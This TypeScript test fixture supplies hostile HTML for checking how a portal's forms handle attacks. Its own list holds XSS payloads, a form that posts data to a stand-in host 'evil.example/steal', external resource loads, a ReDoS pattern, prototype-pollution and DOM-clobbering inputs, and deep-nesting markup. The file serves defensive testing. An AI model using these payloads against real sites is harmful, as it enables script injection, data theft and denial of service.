import { isFull, pickSample, SEED } from './property.ts';
import { readSamples } from './samples.ts';

/** HTML written to attack the page that shows it. */
export interface HostileHtml {
  readonly id: string;
  readonly html: string;
}

/**
 * Returns the HTML of attacks: all of our own, and `count` from public collections. SEED, which is printed, chooses
 * these. FULL=1 returns all of them.
 */
export function hostileHtml(count: number): readonly HostileHtml[] {
  const all = readSamples('security').flatMap(({ json }) =>
    (json as { id: string; payload: string }[]).map(({ id, payload }) => ({ id, html: payload })),
  );
  if (isFull || all.length === 0) return [...OWN_ATTACKS, ...all];
  console.info(`${count} of ${all.length} attacks, SEED=${SEED}; FULL=1 checks them all.`);
  return [...OWN_ATTACKS, ...pickSample(all, count)];
}

/** Attacks on the forms of this portal. */
const OWN_ATTACKS: readonly HostileHtml[] = [
  '<form action="https://evil.example/steal" method="post" target="_blank"><input name="a" value="1"><button>Go</button></form>',
  '<button formaction="javascript:alert(1)" formmethod="dialog" formtarget="_top">Go</button>',
  '<input type="image" src="https://evil.example/i.png" formaction="javascript:alert(1)" name="i">',
  '<input type="submit" name="s" value="Go" formaction="https://evil.example/" onclick="alert(1)">',
  '<a data-action="next" href="javascript:alert(1)" onclick="alert(1)">Next</a>',
  '<label for="x" onclick="alert(1)"><img src=x onerror=alert(1)>Name</label><input id="x" name="n" onfocus="alert(1)" autofocus>',
  '<select name="s" onchange="alert(1)"><option value="1" onclick="alert(1)"><img src=x onerror=alert(1)>One</option></select>',
  '<textarea name="t"></textarea><img src=x onerror=alert(1)>',
  '<input name="p" pattern="(a+)+$" value="aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!">',
  '<input name="r" data-rules=\'{"visible":{"var":"constructor.constructor"}}\' data-message-required="<img src=x onerror=alert(1)>{x, select, other {#}}" required>',
  '<div data-field="constructor" data-group="__proto__" data-action="x" data-action-name="y"><p data-field="x">a</p></div>',
  '<form data-form="../../evil"><input name="__proto__" value="1"><input name="constructor" value="2"></form>',
  '<style>*{background:url(https://evil.example/css)}</style><link rel="stylesheet" href="https://evil.example/x.css"><p style="background:url(https://evil.example/s)">x</p>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><a href="x">x</a>',
  '<img src="https://evil.example/pixel.png"><img srcset="https://evil.example/p.png 2x" src="/media/x.svg"><video src="https://evil.example/v.mp4" autoplay></video>',
  '<svg><use href="https://evil.example/x.svg#a"></use><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data="javascript:alert(1)"></object><embed src="https://evil.example/">',
  '<x-evil onclick="alert(1)" tabindex="1" autofocus onfocus="alert(1)">custom</x-evil><template><script>alert(1)</script></template>',
  `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>`,
  '<form><input name="attributes"><input name="childNodes"><input name="removeChild"><input name="nodeName"><img src=x onerror=alert(1)></form>',
].map((html, index) => ({ id: `own-${index + 1}`, html }));
